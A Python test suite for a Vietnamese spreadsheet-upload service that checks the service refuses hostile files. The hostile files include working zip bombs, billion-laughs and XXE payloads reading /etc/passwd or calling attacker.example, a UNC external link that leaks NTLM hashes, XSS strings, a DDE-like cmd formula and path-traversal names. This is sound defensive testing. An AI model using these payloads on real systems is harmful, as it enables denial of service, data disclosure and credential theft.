"""Hostile and broken uploads, every one built here in code (no binary fixture is committed).

Each is refused with a stable code and a Vietnamese message that says what is wrong, or (where
stated) accepted safely; the test process survives every one, and a refusal stores nothing
(`table_counts` unchanged). The readers run in a child process (etl/reading/sandbox.py), so a file
that makes python-calamine abort, or that asks for gigabytes, costs one refused upload.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import functools
import io
import os
import pickle
import random
import signal
import string
import struct
import threading
import time
import unicodedata
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import text

from etl.core.problems import ProblemLog
from etl.ingest.load import ingest_bytes
from etl.reading import package, sandbox
from etl.reading.limits import Limits
from etl.reading.reader import READING, read_grids
from etl.reading.text import unsafe_text
from tests.builders import (
    B01_HEADER,
    LABELS_01,
    OLE_MAGIC,
    SIGNATURE,
    SN,
    as_xlsm,
    b01,
    b01_rows,
    form00,
    form03,
    ods,
    replace_in,
    rezip,
    workbook_bytes,
    xlsx,
    zip_of,
)
from tests.conftest import open_sample_periods, table_counts

MB = 1024 * 1024
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"

# ---------------------------------------------------------------- builders: real forms


def b01_named(name: str, **kwargs: Any) -> bytes:
    """Biểu 01 whose row 6 is the unit `name` (cell B6)."""
    return b01([2, name, 45, 44], **kwargs)


def ods_01() -> bytes:
    """A small Biểu 01 as an OpenDocument spreadsheet."""
    return ods({"Biểu 01": [["Biểu số 01"], B01_HEADER[:4], [1, "Sở Y tế", 120, 115]]})


def with_doctype(part: str, doctype: str, body_old: str = "", body_new: str = "") -> bytes:
    """A good Biểu 01 with a DTD (and entity references) put into one of its XML parts."""

    def edit(files: dict[str, bytes]) -> None:
        xml = files[part].decode()
        if xml.startswith("<?xml"):
            end = xml.index("?>") + 2
            xml = xml[:end] + doctype + xml[end:]
        else:
            xml = doctype + xml
        if body_old:
            assert body_old in xml
            xml = xml.replace(body_old, body_new, 1)
        files[part] = xml.encode()

    return rezip(b01(), edit)


# ---------------------------------------------------------------- builders: hand-made packages

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.sheet.main+xml"/></Types>'
)
ROOT_RELS = (
    f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_REL_NS}">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)


def package_parts(sheet_xml: bytes, sheet: str = "Biểu 01") -> dict[str, bytes]:
    """The parts of a minimal .xlsx with one worksheet whose XML is `sheet_xml`."""
    workbook = (
        f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN_NS}" '
        f'xmlns:r="{REL_NS}"><sheets><sheet name="{sheet}" sheetId="1" r:id="rId1"/></sheets>'
        "</workbook>"
    )
    workbook_rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_REL_NS}">'
        f'<Relationship Id="rId1" Type="{REL_NS}/worksheet" Target="worksheets/sheet1.xml"/>'
        "</Relationships>"
    )
    return {
        "[Content_Types].xml": CONTENT_TYPES.encode(),
        "_rels/.rels": ROOT_RELS.encode(),
        "xl/workbook.xml": workbook.encode(),
        "xl/_rels/workbook.xml.rels": workbook_rels.encode(),
        "xl/worksheets/sheet1.xml": sheet_xml,
    }


def sheet_xml(rows: bytes) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN_NS}"><sheetData>'.encode()
        + rows
        + b"</sheetData></worksheet>"
    )


def xlsx_of(rows: bytes, sheet: str = "Biểu 01") -> bytes:
    return zip_of(package_parts(sheet_xml(rows), sheet), level=1)


@dataclass
class RawEntry:
    """A zip entry written byte by byte: any declared size, flags or method."""

    name: str
    data: bytes  # as stored (already compressed)
    size: int  # declared uncompressed size
    crc: int
    method: int = zipfile.ZIP_DEFLATED
    flags: int = 0
    offset: int | None = None  # point the directory at another entry's local header


def raw_zip(entries: list[RawEntry]) -> bytes:
    """A zip archive assembled by hand (zipfile refuses to write lies)."""
    out = bytearray()
    offsets = []
    for e in entries:
        offsets.append(len(out))
        name = e.name.encode()
        out += struct.pack(
            "<4s5H3L2H", b"PK\x03\x04", 20, e.flags, e.method, 0, 0x21, e.crc, len(e.data),
            e.size, len(name), 0,
        )  # fmt: skip
        out += name + e.data
    directory = bytearray()
    for e, offset in zip(entries, offsets, strict=True):
        name = e.name.encode()
        at = offsets[e.offset] if e.offset is not None else offset
        directory += struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, e.flags, e.method, 0, 0x21, e.crc,
            len(e.data), e.size, len(name), 0, 0, 0, 0, 0, at,
        )  # fmt: skip
        directory += name
    end = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(directory), len(out), 0
    )
    return bytes(out + directory + end)


def deflated(data: bytes) -> RawEntry:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return RawEntry("", c.compress(data) + c.flush(), len(data), zlib.crc32(data))


def raw_package(sheet_entry: RawEntry, sheet_xml_part: bytes = b"") -> bytes:
    """A minimal .xlsx assembled by hand, its worksheet entry given as is."""
    entries = []
    for name, data in package_parts(sheet_xml_part or sheet_xml(b"")).items():
        if name == "xl/worksheets/sheet1.xml":
            sheet_entry.name = name
            entries.append(sheet_entry)
        else:
            entry = deflated(data)
            entry.name = name
            entries.append(entry)
    return raw_zip(entries)


@functools.cache
def zeros_deflated(n_mb: int) -> tuple[bytes, int]:
    """`n_mb` MiB of zeros as raw deflate (one 1 MiB block repeated) and their CRC-32."""
    zero = bytes(MB)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(zero) + c.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(n_mb):
        crc = zlib.crc32(zero, crc)
    return block * n_mb + c.flush(), crc


def zip_bomb() -> bytes:
    """500 MiB of zeros declared as the worksheet, a few hundred KB on disk."""
    data, crc = zeros_deflated(500)
    return raw_package(RawEntry("", data, 500 * MB, crc))


def lying_zip_bomb() -> bytes:
    """A worksheet that declares 10 KB but inflates to 50 MiB: only decompressing tells."""
    data, crc = zeros_deflated(50)
    return raw_package(RawEntry("", data, 10_000, crc))


def overlapping_zip() -> bytes:
    """Several directory entries sharing one compressed stream (Fifield's 'better zip bomb')."""
    parts = package_parts(sheet_xml(b""))
    entries = []
    for name, data in parts.items():
        entry = deflated(data)
        entry.name = name
        entries.append(entry)
    sheet_index = next(i for i, e in enumerate(entries) if e.name.endswith("sheet1.xml"))
    for k in range(2, 6):
        twin = deflated(parts["xl/worksheets/sheet1.xml"])
        twin.name, twin.offset = f"xl/worksheets/sheet{k}.xml", sheet_index
        entries.append(twin)
    return raw_zip(entries)


def encrypted_zip() -> bytes:
    entry = deflated(sheet_xml(b""))
    entry.flags = 0x1  # "traditional PKWARE encryption"
    return raw_package(entry)


def event(n: int, date: str, kind: str, before: str, after: str | None = None) -> list[Any]:
    """A Biểu 03 row (tests.builders.form03 columns): date in B, units in E and F."""
    return [n, date, f"{n}/QĐ-UBND", kind, before, after, SN, *[None] * 6]


def ole(*streams: str, size: int = 4096) -> bytes:
    """An OLE2 compound-file header followed by the UTF-16 names of `streams` (what the
    signature check looks at) and filler."""
    names = b"".join(s.encode("utf-16-le") + bytes(4) for s in streams)
    filler = random.Random(11).randbytes(size)
    return OLE_MAGIC + bytes(504) + names + filler


def billion_laughs() -> str:
    entities = ['<!ENTITY lol "lol">']
    for i in range(1, 10):
        prev = "lol" if i == 1 else f"lol{i - 1}"
        entities.append(f'<!ENTITY lol{i} "{("&" + prev + ";") * 10}">')
    return f"<!DOCTYPE workbook [{''.join(entities)}]>"


def million_rows() -> bytes:
    rows = b"".join(
        b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (i, i) for i in range(1, 1_000_001)
    )
    return xlsx_of(rows)


def many_columns(n: int = 10_000) -> bytes:
    cells = b"".join(b"<c><v>%d</v></c>" % i for i in range(n))
    return xlsx_of(b'<row r="1">' + cells + b"</row>")


def at_xfd1048576() -> bytes:
    wb = openpyxl.load_workbook(io.BytesIO(b01()))
    wb["Biểu 01"]["XFD1048576"] = "tận cùng"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def long_cell() -> bytes:
    text_1mb = "".join(random.Random(5).choices(string.ascii_letters + " ", k=MB))
    return b01([2, "Sở Tư pháp", 45, 44], [3, text_1mb, 1, 1])


def slow_rows(n: int = 40_000, cols: int = 6) -> bytes:
    """A legitimate but big sheet: `n` rows of `cols` numbers (reading takes a while)."""
    letters = [c.encode() for c in string.ascii_uppercase[:cols]]
    rows = b"".join(
        b'<row r="%d">' % i
        + b"".join(b'<c r="%s%d"><v>%d</v></c>' % (c, i, i) for c in letters)
        + b"</row>"
        for i in range(1, n + 1)
    )
    return xlsx_of(rows)


def external_link() -> bytes:
    """A workbook whose formulas point at a file on a UNC share (Excel would fetch it, and
    leak the user's NTLM hash, when staff open the stored original)."""

    def edit(files: dict[str, bytes]) -> None:
        files["xl/externalLinks/externalLink1.xml"] = (
            f'<externalLink xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><externalBook r:id="rId1"/>'
            "</externalLink>"
        ).encode()
        files["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
            f'<Relationships xmlns="{PKG_REL_NS}"><Relationship Id="rId1" '
            f'Type="{REL_NS}/externalLinkPath" Target="file:///\\\\attacker.example\\share\\'
            'so_lieu.xlsx" TargetMode="External"/></Relationships>'
        ).encode()
        replace_in(
            "xl/_rels/workbook.xml.rels",
            "</Relationships>",
            f'<Relationship Id="rIdX" Type="{REL_NS}/externalLink" '
            'Target="externalLinks/externalLink1.xml"/></Relationships>',
        )(files)

    return rezip(b01(), edit)


def with_hyperlink() -> bytes:
    wb = openpyxl.load_workbook(io.BytesIO(b01()))
    wb["Biểu 01"]["E5"].hyperlink = "https://sonoivu.example/van-ban"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def xlsm() -> bytes:
    return as_xlsm(b01())


def as_content_type(content_type: str, extra: dict[str, bytes]) -> bytes:
    """A package that says (by content type) it is something other than a workbook."""

    def edit(files: dict[str, bytes]) -> None:
        del files["xl/workbook.xml"]
        replace_in(
            "[Content_Types].xml",
            'PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.sheet.main+xml"',
            f'PartName="/main.part" ContentType="{content_type}"',
        )(files)
        files.update(extra)

    return rezip(b01(), edit)


# ---------------------------------------------------------------- the corpus


@dataclass(frozen=True)
class Hostile:
    """An upload and what it must give: `code` (an error, unless `accepted`), texts the
    Vietnamese message must contain, where, and environment overrides of the limits."""

    content: Callable[[], bytes]
    code: str | None
    names: tuple[str, ...] = ()
    sheet: str = ""
    cell: str = ""
    file_name: str = "bao_cao.xlsx"
    env: dict[str, str] = field(default_factory=dict)
    warnings: tuple[str, ...] = ()


LAX_CAPS = {"PARSE_MAX_ROWS": "2000000", "PARSE_MAX_COLS": "20000", "PARSE_MAX_CELLS": "1e13"}

REFUSED = {
    # not a workbook at all, judged by content
    "random-bytes": Hostile(
        lambda: random.Random(7).randbytes(8192), "file-not-excel", ("nhị phân",)
    ),
    "empty": Hostile(lambda: b"", "file-empty", ("rỗng",)),
    "truncated-zip": Hostile(lambda: b01()[:2000], "file-not-excel", ("hỏng",)),
    "csv-as-xlsx": Hostile(
        lambda: "STT,Tên cơ quan,Biên chế 2021\n1,Sở Y tế,120\n2,Sở Tư pháp,45\n".encode(),
        "file-not-excel",
        ("CSV",),
    ),
    "html-as-xlsx": Hostile(
        lambda: b"<html><body><table><tr><td>S\xe1\xbb\x9f Y t\xe1\xba\xbf</td></tr></table>",
        "file-not-excel",
        ("HTML",),
    ),
    "text-as-xlsx": Hostile(
        lambda: "Kính gửi Sở Nội vụ\n".encode(), "file-not-excel", ("văn bản",)
    ),
    "pdf-as-xlsx": Hostile(
        lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "file-not-excel", ("PDF",)
    ),
    "spreadsheetml-2003": Hostile(
        lambda: (
            b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook '
            b'xmlns="urn:schemas-microsoft-com:office:spreadsheet"></Workbook>'
        ),
        "file-not-excel",
        ("Excel 2003",),
    ),
    "word-doc-as-xlsx": Hostile(lambda: ole("WordDocument"), "file-not-excel", ("Word",)),
    "docx-as-xlsx": Hostile(
        lambda: as_content_type(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            {"word/document.xml": b"<w:document/>"},
        ),
        "file-not-excel",
        ("Word",),
    ),
    "xlsb-as-xlsx": Hostile(
        lambda: as_content_type(
            "application/vnd.ms-excel.sheet.binary.macroEnabled.main",
            {"xl/workbook.bin": b"\x83\x01\x00"},
        ),
        "file-not-excel",
        (".xlsb",),
    ),
    "zip-of-text": Hostile(lambda: zip_of({"readme.txt": b"hello"}), "file-not-excel", ("zip",)),
    "xls-like-ole-as-xlsx": Hostile(
        lambda: ole("Workbook"),
        "file-unreadable",
        ("Không đọc được",),
        warnings=("file-extension-mismatch",),
    ),
    # encryption
    "encrypted-ooxml": Hostile(
        lambda: ole("EncryptedPackage", "EncryptionInfo"), "file-encrypted", ("mật khẩu",)
    ),
    "encrypted-zip-entries": Hostile(encrypted_zip, "file-encrypted", ("mật khẩu",)),
    # zip bombs and odd zips
    "zip-bomb-500mb": Hostile(zip_bomb, "zip-bomb", ("bom nén", "MB")),
    "zip-bomb-lying-size": Hostile(lying_zip_bomb, "zip-bomb", ("xl/worksheets/sheet1.xml",)),
    "zip-overlapping-entries": Hostile(overlapping_zip, "zip-bomb", ("dùng chung",)),
    "zip-too-many-entries": Hostile(
        lambda: zip_of({f"xl/media/f{i}.txt": b"" for i in range(2_001)}),
        "zip-too-many-entries",
        ("2001",),
    ),
    "zip-bzip2": Hostile(
        lambda: zip_of(package_parts(sheet_xml(b"")), zipfile.ZIP_BZIP2, level=1),
        "zip-unsupported",
        ("phương pháp",),
    ),
    # XML attacks
    "billion-laughs-workbook": Hostile(
        lambda: with_doctype("xl/workbook.xml", billion_laughs(), "<sheets>", "<sheets>&lol9;"),
        "xml-unsafe",
        ("xl/workbook.xml", "DTD"),
    ),
    "quadratic-blowup-sheet": Hostile(
        lambda: with_doctype(
            "xl/worksheets/sheet1.xml",
            f'<!DOCTYPE worksheet [<!ENTITY a "{"x" * 50_000}">]>',
            "<sheetData>",
            "<sheetData>" + "&a;" * 2_000,
        ),
        "xml-unsafe",
        ("xl/worksheets/sheet1.xml",),
    ),
    "xxe-sheet": Hostile(
        lambda: with_doctype(
            "xl/worksheets/sheet1.xml",
            '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
            "</sheetData>",
            '<row r="40"><c r="A40" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData>',
        ),
        "xml-unsafe",
        ("XXE",),
    ),
    "xxe-content-types": Hostile(
        lambda: with_doctype(
            "[Content_Types].xml",
            '<!DOCTYPE Types [<!ENTITY x SYSTEM "http://attacker.example/">]>',
        ),
        "xml-unsafe",
        ("[Content_Types].xml",),
    ),
    "xxe-rels": Hostile(
        lambda: with_doctype(
            "xl/_rels/workbook.xml.rels",
            '<!DOCTYPE Relationships [<!ENTITY x SYSTEM "file:///etc/shadow">]>',
        ),
        "xml-unsafe",
        ("workbook.xml.rels",),
    ),
    "dtd-in-utf16-sheet": Hostile(
        lambda: rezip(
            b01(),
            lambda files: files.update(
                {
                    "xl/worksheets/sheet1.xml": (
                        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w [<!ENTITY a "b">]>'
                        + files["xl/worksheets/sheet1.xml"].decode()
                    ).encode("utf-16")
                }
            ),
        ),
        "xml-unsafe",
        ("sheet1.xml",),
    ),
    "external-workbook-link": Hostile(external_link, "external-link", ("attacker.example",)),
    # sizes
    "cell-at-XFD1048576": Hostile(
        at_xfd1048576, "too-many-rows", ("XFD1048576", "50000"), "Biểu 01", "XFD1048576"
    ),
    "million-rows": Hostile(million_rows, "too-many-rows", ("A50001",), "Biểu 01", "A50001"),
    "ten-thousand-columns": Hostile(many_columns, "too-many-columns", ("ALM1",), "Biểu 01", "ALM1"),
    "used-range-too-large": Hostile(
        b01, "too-many-cells", ("A7", "25"), "Biểu 01", "A7", env={"PARSE_MAX_CELLS": "25"}
    ),
    "one-megabyte-cell": Hostile(long_cell, "cell-too-long", ("B7", "32000"), "Biểu 01", "B7"),
    "file-over-read-limit": Hostile(
        b01, "file-too-large", ("byte",), env={"PARSE_MAX_FILE_MB": "0.001"}
    ),
    # the reader dies or hangs: one refused file, the process lives
    "calamine-abort-at-XFD1048576": Hostile(
        at_xfd1048576, "parse-memory", ("bộ nhớ", "bao_cao.xlsx"), env=LAX_CAPS
    ),
    "parse-timeout": Hostile(
        slow_rows, "parse-timeout", ("giây", "bao_cao.xlsx"), env={"PARSE_TIMEOUT_S": "0.02"}
    ),
    # text that is stored and shown
    "nul-in-name": Hostile(
        lambda: b01_named("Sở Y tế_x0000_ 2"), "unsafe-text", ("NUL",), "Biểu 01", "B6"
    ),
    "control-char-in-name": Hostile(
        lambda: b01_named("Sở _x001B_[31mTư pháp"), "unsafe-text", ("U+001B",), "Biểu 01", "B6"
    ),
    "bell-in-name": Hostile(
        lambda: b01_named("Sở Tư pháp_x0007_"), "unsafe-text", ("U+0007",), "Biểu 01", "B6"
    ),
    "bidi-override-in-name": Hostile(
        lambda: b01_named("Sở Tư pháp\u202egpj.exe"),
        "unsafe-text",
        ("U+202E", "hướng chữ"),
        "Biểu 01",
        "B6",
    ),
    "bidi-isolate-in-name": Hostile(
        lambda: b01_named("\u2066Sở Tư pháp\u2069"), "unsafe-text", ("U+2066",), "Biểu 01", "B6"
    ),
    "lrm-mark-in-name": Hostile(
        lambda: b01_named("Sở Tư\u200e pháp"), "unsafe-text", ("U+200E",), "Biểu 01", "B6"
    ),
    "html-in-name": Hostile(
        lambda: b01_named("<b>Sở Tư pháp</b>"), "unsafe-text", ("HTML",), "Biểu 01", "B6"
    ),
    "script-in-name": Hostile(
        lambda: b01_named("<script>alert(document.cookie)</script>"),
        "unsafe-text",
        ("<script>", "HTML"),
        "Biểu 01",
        "B6",
    ),
    "img-onerror-in-name": Hostile(
        lambda: b01_named('Sở <img src=x onerror="alert(1)">'),
        "unsafe-text",
        ("HTML",),
        "Biểu 01",
        "B6",
    ),
    "javascript-link-in-name": Hostile(
        lambda: b01_named("javascript:alert(1)"), "unsafe-text", ("script",), "Biểu 01", "B6"
    ),
    "spaced-javascript-in-name": Hostile(
        lambda: b01_named("JaVa Script :alert(1)"), "unsafe-text", ("script",), "Biểu 01", "B6"
    ),
    "script-in-reporting-unit": Hostile(
        lambda: xlsx({"Biểu 01": b01_rows(title=(["Đơn vị báo cáo: <script>alert(1)</script>"],))}),
        "unsafe-text",
        ("Đơn vị báo cáo",),
        "Biểu 01",
        "A2",
    ),
    "bidi-in-note": Hostile(
        lambda: xlsx(
            {
                "Biểu 01": [
                    ["Biểu số 01"],
                    [*B01_HEADER[:4], LABELS_01["note"]],
                    [1, "Sở Y tế", 120, 115, "ghi chú \u202e"],
                    *SIGNATURE,
                ]
            }
        ),
        "unsafe-text",
        ("Ghi chú", "U+202E"),
        "Biểu 01",
        "E3",
    ),
    "bidi-in-biểu-03-units": Hostile(
        lambda: workbook_bytes(
            form03([event(1, "01/03/2023", "Sáp nhập", "Trường A\u202e", "Trường B")])
        ),
        "unsafe-text",
        ("U+202E", "Đơn vị trước sắp xếp"),
        "Biểu 03",
        "E5",
    ),
    "html-in-biểu-00-scope": Hostile(
        lambda: workbook_bytes(
            form00([[1, "<iframe src=//x>", "Biên chế công chức", 2021, "5%", None, "KH 1"]])
        ),
        "unsafe-text",
        ("HTML",),
        "Biểu 00",
        "B3",
    ),
    "bidi-in-sheet-name": Hostile(
        lambda: b01(sheet="Biểu 01\u202e"), "unsafe-text", ("Tên trang", "U+202E")
    ),
    # forms that are wrong, not hostile
    "date-as-text-impossible": Hostile(
        lambda: workbook_bytes(form03([event(1, "31/02/2023", "Giải thể", "Trường A")])),
        "bad-date",
        ("31/02/2023",),
        "Biểu 03",
        "B5",
    ),
    "missing-columns": Hostile(
        lambda: xlsx({"Biểu 01": [["Biểu số 01"], B01_HEADER[:2], [1, "Sở Y tế"]]}),
        "missing-year",
        ("Biên chế công chức được giao", "chưa có cột năm nào"),
        "Biểu 01",
        "A2",
    ),
}

ACCEPTED = {
    "ods-as-xlsx": Hostile(
        ods_01,
        None,
        warnings=("file-extension-mismatch",),
    ),
    "macro-xlsm": Hostile(xlsm, None, file_name="bao_cao.xlsm", warnings=("file-has-macros",)),
    "hyperlink-in-cell": Hostile(with_hyperlink, None),
    "formula-like-name": Hostile(
        lambda: b01_named('=HYPERLINK("http://evil.example","Sở Tư pháp")', literal=("B6",)), None
    ),
    "dde-like-name": Hostile(lambda: b01_named("+cmd|' /C calc'!A0", literal=("B6",)), None),
    "name-with-less-than": Hostile(lambda: b01_named("Trường < 5 tuổi Hoa Sen"), None),
    "dates-as-text-biểu-03": Hostile(
        lambda: workbook_bytes(
            form03(
                [
                    event(1, "01/03/2023", "Giải thể", "Trường A"),
                    event(2, "ngày 08 tháng 12 năm 2023", "Giải thể", "Trường B"),
                ]
            )
        ),
        None,
    ),
}


def is_vietnamese(text: str) -> bool:
    return any(ch in "đĐ" or unicodedata.normalize("NFD", ch) != ch for ch in text)


@pytest.mark.parametrize("case", list(REFUSED.values()), ids=list(REFUSED))
def test_hostile_file_is_refused(engine, ingest, monkeypatch, case):
    for key, value in case.env.items():
        monkeypatch.setenv(key, value)
    before = table_counts(engine)
    result = ingest(case.content(), case.file_name)
    assert result.status == "refused", [(p.code, p.message_vi) for p in result.problems]
    assert {p.code for p in result.errors} == {case.code}, [
        (p.code, p.cell, p.message_vi) for p in result.errors
    ]
    # the rows read beside a refused cell are still matched (every problem in one pass):
    # their units are new in this empty database
    warned = {p.code for p in result.problems if not p.is_error} - {"new-unit"}
    assert warned == set(case.warnings)
    problem = next(p for p in result.errors if p.code == case.code)
    assert problem.file == case.file_name
    assert (problem.sheet, problem.cell) == (case.sheet or problem.sheet, case.cell)
    assert is_vietnamese(problem.message_vi) and problem.message_en.strip()
    for name in case.names:
        assert name in problem.message_vi, (name, problem.message_vi)
    assert result.submission_id is None
    assert table_counts(engine) == before


@pytest.mark.parametrize("case", list(ACCEPTED.values()), ids=list(ACCEPTED))
def test_odd_but_harmless_file_is_accepted(engine, ingest, case):
    result = ingest(case.content(), case.file_name)
    assert result.status == "accepted", [(p.code, p.cell, p.message_vi) for p in result.problems]
    assert {p.code for p in result.problems if p.code != "new-unit"} == set(case.warnings)
    assert table_counts(engine)["submission"] == 1


def test_macros_are_named_and_never_run(engine, ingest):
    result = ingest(xlsm(), "bao_cao.xlsm")
    [warning] = [p for p in result.problems if p.code == "file-has-macros"]
    assert "macro không bao giờ được chạy" in warning.message_vi


def test_ods_disguised_as_xlsx_is_named_as_such(engine, ingest):
    result = ingest(ods_01(), "bao_cao.xlsx")
    [warning] = [p for p in result.problems if p.code == "file-extension-mismatch"]
    assert ".ods" in warning.message_vi


def test_xls_disguised_as_xlsx_is_named_as_such(engine, ingest):
    result = ingest(ole("Workbook"), "bao_cao.xlsx")
    [warning] = [p for p in result.problems if p.code == "file-extension-mismatch"]
    assert ".xls" in warning.message_vi


def unit_names(engine) -> set[str]:
    with engine.connect() as conn:
        return set(conn.execute(text("SELECT name FROM unit")).scalars())


def test_formula_like_names_are_stored_as_literal_text(engine, ingest):
    name = '=HYPERLINK("http://evil.example","Sở Tư pháp")'
    assert ingest(b01_named(name, literal=("B6",))).status == "accepted"
    assert name in unit_names(engine)


def test_dates_as_text_in_biểu_03(engine, ingest):
    """`dd/mm/yyyy` and `ngày … tháng … năm …` as text are accepted; 31/02 is `bad-date`."""
    result = ingest(ACCEPTED["dates-as-text-biểu-03"].content())
    assert result.status == "accepted"
    with engine.connect() as conn:
        dates = set(conn.execute(text("SELECT effective_date FROM event")).scalars())
    assert {str(d)[:10] for d in dates} == {"2023-03-01", "2023-12-08"}


# ---------------------------------------------------------------- file names are never paths


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd.xlsx",
        "C:\\x\\..\\y.xlsx",
        "a\x00b.xlsx",
        "/tmp/abs.xlsx",
        "..",
        "\u202eexcel.xlsx",
    ],
)
def test_uploaded_name_is_never_a_path(engine, tmp_path, name):
    content = b01_named(f"Trường {len(name)} {name.encode().hex()[:12]}")
    open_sample_periods(engine)
    result = ingest_bytes(engine, content, name, uploads_dir=tmp_path / "uploads")
    assert result.status == "accepted", [(p.code, p.message_vi) for p in result.errors]
    with engine.connect() as conn:
        stored, file_name = conn.execute(
            text("SELECT stored_path, file_name FROM submission")
        ).one()
    assert stored == f"{result.sha256[:2]}/{result.sha256}.xlsx" or stored.endswith(".bin")
    assert "\x00" not in file_name and "/" not in file_name
    written = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*") if p.is_file())
    uploads = [p for p in written if p.parts[0] == "uploads"]
    assert [str(p.relative_to("uploads")) for p in uploads] == [stored]
    assert all(p.parts[0] == "uploads" or p.name.startswith("test.sqlite3") for p in written)
    assert not (tmp_path / "uploads" / ".." / "etc").exists()


# ---------------------------------------------------------------- the child process


def good_grids(limits: Limits | None = None) -> list[Any]:
    log = ProblemLog("tot.xlsx")
    grids = read_grids(b01(), "tot.xlsx", log, limits)
    assert grids is not None and not log.has_errors, log.items
    return grids


def test_reader_abort_costs_one_file_not_the_process():
    """python-calamine aborts the process on a cell at XFD1048576 (it allocates the dense
    range); in the child that is one `parse-memory` refusal, then the next file reads."""
    lax = Limits(max_rows=2_000_000, max_cols=20_000, max_cells=10**13)
    log = ProblemLog("bao_cao.xlsx")
    assert read_grids(at_xfd1048576(), "bao_cao.xlsx", log, lax) is None
    assert [p.code for p in log.items] == ["parse-memory"]
    assert good_grids(lax)[0].value(4, 1) == "Sở Y tế"


def _children(pid: int) -> list[int]:
    found = []
    for task in Path(f"/proc/{pid}/task").iterdir():
        found += [int(c) for c in (task / "children").read_text().split()]
    return found


def _cpu_ticks(pid: int) -> int:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return int(fields[11]) + int(fields[12])


@pytest.mark.skipif(not Path("/proc/self/task").exists(), reason="needs Linux /proc")
def test_a_crashing_reader_is_parse_crashed():
    """A reading child killed by SIGSEGV (as a crashing native reader would be) is a
    `parse-crashed` refusal naming the file; the web process and the next file are fine."""
    limits = Limits(parse_workers=1, parse_timeout_s=60)
    good_grids(limits)  # a fork server is running and idle
    servers = [z.proc.pid for z in READING.pool.idle]
    content = slow_rows(60_000, 8)
    lax = dataclasses.replace(limits, max_rows=100_000)
    log = ProblemLog("hong.xlsx")
    outcome: list[Any] = []
    worker = threading.Thread(
        target=lambda: outcome.append(read_grids(content, "hong.xlsx", log, lax))
    )
    worker.start()
    deadline = time.monotonic() + 30
    killed = None
    while killed is None and time.monotonic() < deadline and worker.is_alive():
        for server in servers:
            for child in _children(server):
                try:  # a reading child of our fork server, busy (a spare has no CPU time)
                    mine = b"zygote_main" in Path(f"/proc/{child}/cmdline").read_bytes()
                    if mine and _cpu_ticks(child) >= 10:
                        os.kill(child, signal.SIGSEGV)
                        killed = child
                except (FileNotFoundError, ProcessLookupError):
                    pass  # it has just ended
        time.sleep(0.002)
    worker.join(60)
    assert killed is not None, "the reading child was not seen"
    assert outcome == [None]
    [problem] = log.items
    assert problem.code == "parse-crashed"
    assert "hong.xlsx" in problem.message_vi and "SIGSEGV" in problem.message_vi
    good_grids(limits)


def test_the_warm_up_workbook_is_read_as_the_four_forms_without_a_problem():
    """What a waiting reading child reads (etl/reading/warm.py) goes where a real return goes:
    Biểu 01 and 02 with their units, years, codes and a district, Biểu 03 with its events,
    Biểu 00 with its targets, and nothing to report (a problem would mean a label or shape
    drifted from etl.core.forms, and the warm-up no longer warms the reading of returns)."""
    from etl.reading.reader import read_forms_in_process
    from etl.reading.warm import warm_up_workbook

    log = ProblemLog("")
    sheets, layouts = read_forms_in_process(warm_up_workbook(), "xlsx", {}, log, Limits())
    assert log.items == [] and layouts == []
    by_form = {s.form: s for s in sheets}
    assert sorted(by_form) == ["00", "01", "02", "03"]
    units_01 = by_form["01"].units
    assert [u.name.value for u in units_01] == [
        "Phòng Khởi động", "Sở Khởi động", "Chi cục Khởi động"
    ]  # fmt: skip
    assert units_01[0].attrs["district"] == "Huyện Khởi Động" and units_01[0].code == "KD.01"
    assert units_01[1].yearly[("quota", 2024)].value == 39  # typed as text
    assert by_form["01"].header.as_of == dt.date(2024, 6, 30)
    assert len(by_form["02"].units) == 2 and len(by_form["03"].events) == 2
    assert len(by_form["00"].targets) == 2


def test_the_warm_up_stops_when_the_job_comes():
    """A waiting child's warm-up asks between its stages (the grids, then each sheet) whether
    its job has come, and stops there: the upload does not wait for the rest of it."""
    from etl.reading.reader import warm_up

    asked: list[bool] = []
    warm_up(lambda: asked.append(False) or False)
    assert len(asked) == 4  # before each of the four sheets
    asked.clear()
